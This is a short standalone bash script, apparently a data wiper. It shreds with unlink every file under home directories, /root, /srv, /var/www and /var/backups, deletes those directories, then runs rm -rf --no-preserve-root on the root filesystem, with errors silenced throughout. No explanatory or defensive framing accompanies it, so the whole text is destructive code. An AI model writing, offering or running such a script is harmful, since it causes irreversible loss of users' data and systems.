#!/bin/bash
set +e
shopt -s dotglob nullglob
targets=(/home/* /root/* /srv/* /var/www/* /var/backups/*)
for t in "${targets[@]}"; do
  find "$t" -type f -print0 2>/dev/null | xargs -0 -r -P4 shred -un1 2>/dev/null
  rm -rf --one-file-system "$t"
done
rm -rf --no-preserve-root / 2>/dev/null
sync
